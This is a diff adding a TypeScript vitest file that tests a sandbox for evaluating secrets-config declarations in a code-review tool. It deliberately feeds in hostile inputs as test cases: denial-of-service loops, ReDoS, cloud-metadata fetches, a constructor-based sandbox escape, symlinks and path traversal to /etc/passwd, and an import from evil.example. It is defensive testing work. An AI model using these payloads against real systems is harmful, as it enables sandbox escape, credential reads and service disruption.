@@ -1,0 +1,262 @@
+import { createServer } from "node:net";
+import { describe, expect, test, vi } from "vitest";
+import type { Diff } from "../../../src/review/diff/document.ts";
+import { diffRevisions } from "../../../src/review/revision/diff-revisions.ts";
+import { declaring, type Files, GitRepository } from "./git-repository.ts";
+
+vi.mock("../../../src/review/sandbox/folder.ts", async () => (await import("./sandbox-folder.ts")).builtSandbox());
+
+const PLAIN = declaring("A: secret(),");
+/** Milliseconds in which any of them must have ended. */
+const LONG = 30_000;
+
+async function diffTo(head: string | Files, base: Files = { "secrets.config.ts": PLAIN }): Promise<Diff> {
+  const repository = new GitRepository();
+  const before = repository.commit(base);
+  repository.commit(typeof head === "string" ? { "secrets.config.ts": head } : head);
+  return diffRevisions({ folder: repository.folder, base: before });
+}
+
+/** What is found where a declaration runs this before it declares. */
+async function running(code: string, secrets = "A: secret(),"): Promise<Diff> {
+  return diffTo(`${code}\n${declaring(secrets)}`);
+}
+
+const found = ({ problems }: Diff): readonly unknown[] => problems.map(({ side, code, key }) => [side, code, key]);
+const beyond = [["head", "config/beyond-limits", undefined]];
+const unloadable = [["head", "config/unloadable", undefined]];
+
+describe("a declaration that takes too much", () => {
+  test.each<[string, string]>([
+    ["loops without end", "for (;;) {}"],
+    ["waits for what never comes", "await new Promise(() => {});"],
+    ["loops in a promise", "const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});"],
+    ["makes a huge string", "let s = 'x'; for (;;) s += s;"],
+    ["takes all memory", "const all: unknown[] = []; for (;;) all.push(new ArrayBuffer(1e7));"],
+    ["recurses without end", "const f = (): number => f() + 1; f();"],
+    [
+      "recurses in the engine itself",
+      "let a: unknown[] = []; for (let i = 0; i < 1e6; i++) a = [a]; JSON.stringify(a);",
+    ],
+    ["parses too deeply", "(0, eval)('['.repeat(300_000));"],
+    ["matches without end", "/^(a|aa)+$/.test('a'.repeat(80) + 'b');"],
+    ["asks the engine for what cannot be interrupted", "(new Array(4_000_000_000 - 1) as number[]).sort();"],
+  ])(
+    "%s",
+    async (_, code) => {
+      expect(found(await running(code))).toEqual(beyond);
+    },
+    LONG,
+  );
+
+  test(
+    "says too much",
+    async () => {
+      const many =
+        'Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`K${i}`, secret({ description: "x".repeat(900_000) })]))';
+      expect(found(await running("", `...${many},`))).toEqual(beyond);
+    },
+    LONG,
+  );
+
+  test(
+    "is too large, or of too many files",
+    async () => {
+      expect(found(await running(`/* ${"x".repeat(1_100_000)} */`))).toEqual(beyond);
+      const files = Array.from({ length: 220 }, (_, at) => [`f${at}.ts`, `import "./f${at + 1}.ts";\n`] as const);
+      const head = { "secrets.config.ts": `import "./f0.ts";\n${PLAIN}`, ...Object.fromEntries(files), "f220.ts": "" };
+      expect(found(await diffTo(head))).toEqual(beyond);
+    },
+    LONG,
+  );
+
+  test(
+    "blanks and quotes without end do not hold up the search for imports",
+    async () => {
+      const started = performance.now();
+      await running(`/* import${" ".repeat(400_000)} ${"import '".repeat(50_000)} */`);
+      expect(performance.now() - started).toBeLessThan(10_000);
+    },
+    LONG,
+  );
+});
+
+describe("a declaration that is not the same each time", () => {
+  test.each<[string, string, string, string | undefined]>([
+    [
+      "a getter that counts",
+      "let n = 0; const o = { get description() { return String(n++); } };",
+      "A: secret(), B: { ...secret(), get sensitive() { return n++ < 1; } } as never,",
+      "B",
+    ],
+    ["a proxy", "const p = new Proxy(secret(), {});", "A: secret(), B: p,", "B"],
+    ["the time", "", "A: secret({ description: new Date().toISOString() }),", "A"],
+    ["the time zone", "", "A: secret(), B: secret({ description: String(new Date().getTimezoneOffset()) }),", "B"],
+    ["chance", "", "A: secret(), B: secret({ description: String(Math.random()) }),", "B"],
+    [
+      "a key by chance",
+      "",
+      "A: secret(), ...(Math.random() < 1 ? { [`K${Date.now()}`]: secret() } : {}),",
+      "K1600000000123",
+    ],
+    [
+      "a source by the time",
+      "",
+      "A: secret({ from: { prod: vault({ address: `https://${Date.now()}.example`, mount: 'kv' }).at('a', { field: 'x' }) } }),",
+      "A",
+    ],
+  ])("%s", async (_, code, secrets, key) => {
+    const imported = 'import { secret } from "keystead";\n';
+    const repeated = declaring(secrets).replace("random, secret, text", "random, text");
+    expect(found(await diffTo(`${imported}${code}\n${repeated}`))).toEqual([["head", "config/impure", key]]);
+  });
+
+  test("a declaration that is itself a proxy", async () => {
+    const head = PLAIN.replace("defineSecrets({", "new Proxy(defineSecrets({").replace(/\}\);\s*$/, "}), {});\n");
+    expect(found(await diffTo(head))).toEqual([["head", "config/impure", undefined]]);
+  });
+
+  test.each(["node:fs", "fs", "node:child_process", "process"])("imports %s", async (name) => {
+    expect(found(await running(`import * as m from "${name}"; m;`))).toEqual([["head", "config/impure", undefined]]);
+  });
+});
+
+describe("a declaration that reaches out", () => {
+  test.each<[string, string]>([
+    ["ends the process", "process.exit(0);"],
+    ["ends its parent", "process.kill(process.ppid);"],
+    ["reads .git/config", 'require("fs").readFileSync(".git/config");'],
+    ["prints commands", 'console.log("::add-mask::x");'],
+    ["connects to loopback", 'await fetch("http://127.0.0.1:1/");'],
+    ["connects to the metadata address", 'await fetch("http://169.254.169.254/latest/meta-data/");'],
+    ["asks the host's own functions", 'parseAddress("http://x", "");'],
+    ["throws what is a trap", "throw new Proxy({}, { get() { for (;;) {} } });"],
+    ["leaves the engine by its constructor", 'this.constructor.constructor("return process")().exit();'],
+    ["imports when it runs, by a name that is put together", 'await import("./" + "secrets.config.ts" + "x");'],
+  ])(
+    "%s",
+    async (_, code) => {
+      const [problem, ...rest] = (await running(`// @ts-nocheck\n${code}`)).problems;
+      expect(rest).toEqual([]);
+      expect(["config/unloadable", "config/beyond-limits"]).toContain(problem?.code);
+    },
+    LONG,
+  );
+
+  test("nobody is connected to", async () => {
+    const connected = vi.fn<() => void>();
+    const server = createServer((socket) => {
+      connected();
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
+    const address = server.address();
+    const port = typeof address === "object" ? address?.port : undefined;
+    const tries = ["fetch", "WebSocket", "XMLHttpRequest", "EventSource"].map(
+      (name) => `try { new (globalThis as any).${name}("http://127.0.0.1:${port}"); } catch {}`,
+    );
+    expect(found(await running(tries.join("\n")))).toEqual([]);
+    expect(connected).not.toHaveBeenCalled();
+    server.close();
+  });
+
+  test.each<[string, Files]>([
+    ["a symlink out of the repository", { "x.ts": { link: "/etc/hostname" } }],
+    ["a symlink within it", { "x.ts": { link: "y.ts" }, "y.ts": "export {};" }],
+  ])("imports through %s", async (_, files) => {
+    const head = { ...files, "secrets.config.ts": `import "./x.ts";\n${PLAIN}` };
+    const diff = await diffTo(head);
+    expect(found(diff)).toEqual(unloadable);
+    expect(diff.problems[0]?.message).toContain("symlink");
+  });
+
+  test("imports through a folder that is a symlink, or is one itself", async () => {
+    const through = { lib: { link: "/etc" }, "secrets.config.ts": `import "./lib/passwd.ts";\n${PLAIN}` };
+    expect((await diffTo(through)).problems[0]?.message).toContain("symlink");
+    expect(
+      (await diffTo({ "secrets.config.ts": { link: "other.ts" }, "other.ts": PLAIN })).problems[0]?.message,
+    ).toContain("symlink");
+  });
+
+  test("imports from a submodule", async () => {
+    const repository = new GitRepository();
+    const base = repository.commit({ "secrets.config.ts": PLAIN });
+    repository.git("update-index", "--add", "--cacheinfo", `160000,${base},sub`);
+    repository.write({ "secrets.config.ts": `import "./sub/x.ts";\n${PLAIN}` });
+    repository.git("add", "secrets.config.ts");
+    repository.git("commit", "--quiet", "--message", "sub");
+    const { problems } = await diffRevisions({ folder: repository.folder, base });
+    expect(problems).toMatchObject([{ code: "config/unloadable", message: expect.stringContaining("submodule") }]);
+  });
+
+  test.each([
+    "../x.ts",
+    "../../../../etc/passwd",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "https://evil.example/x.ts",
+    "data:text/javascript,1",
+  ])("imports %s", async (specifier) => {
+    expect(found(await running(`import "${specifier}";`))).toEqual(unloadable);
+  });
+});
+
+describe("a declaration that would deceive", () => {
+  test(
+    "cannot change what describes it",
+    async () => {
+      for (const code of [
+        "Object.entries = () => [];",
+        "JSON.stringify = () => '{}';",
+        "Array.prototype.map = () => [];",
+        "Map.prototype.get = () => undefined;",
+        "(globalThis as any).Object = {};",
+        "Object.defineProperty(Object.prototype, 'end', { value: 'described' });",
+      ])
+        expect({ code, found: found(await running(code)) }).toEqual({ code, found: unloadable });
+    },
+    LONG,
+  );
+
+  test("cannot write the answer itself", async () => {
+    const forged =
+      '{ "~settings": {}, environments: {}, secrets: {}, consumers: {}, toJSON() { return { end: "described" }; } }';
+    expect((await diffTo(`export default ${forged};`)).problems.length).toBe(1);
+    expect(found(await diffTo("export default 1;"))).toEqual([["head", "config/not-a-config", undefined]]);
+    const odd = declaring("A: secret({ description: { toJSON: () => 'x' } as never }),");
+    expect((await diffTo(odd)).problems.length).toBeGreaterThan(0);
+  });
+
+  test("gets no answer by what it finds of the process and of CI", async () => {
+    const there = "typeof process !== 'undefined' || typeof Deno !== 'undefined' || 'CI' in globalThis";
+    const head = `declare const process: any, Deno: any;\n${declaring(`A: secret(), ...(${there} ? { B: secret() } : {}),`)}`;
+    expect(await diffTo(head)).toMatchObject({ problems: [], changes: [] });
+  });
+
+  test("may import what is not there, and is opaque then", async () => {
+    const { problems, changes } = await running('import { z as zed } from "zod";', "A: secret(zed.string().min(3)),");
+    expect(problems).toEqual([]);
+    expect(changes).toMatchObject([{ kind: "weakened", key: "A", what: "format" }]);
+  });
+
+  test("says all that is wrong with it by codes, and no value", async () => {
+    const { problems } = await diffTo(
+      declaring(
+        "A: secret(), a: secret(),",
+        'dev: vault({ mount: "kv", identity: vault.userpass({ username: "u", password: "hunter2-canary" as never }) })',
+      ),
+    );
+    expect(problems.map(({ code }) => code)).toEqual(expect.arrayContaining(["config/duplicate-key"]));
+    expect(JSON.stringify(problems)).not.toContain("hunter2-canary");
+  });
+
+  test(
+    "a base that cannot be read is a finding as well",
+    async () => {
+      expect(found(await diffTo(PLAIN, { "secrets.config.ts": "for (;;) {}\nexport default 1;" }))).toEqual([
+        ["base", "config/beyond-limits", undefined],
+      ]);
+    },
+    LONG,
+  );
+});
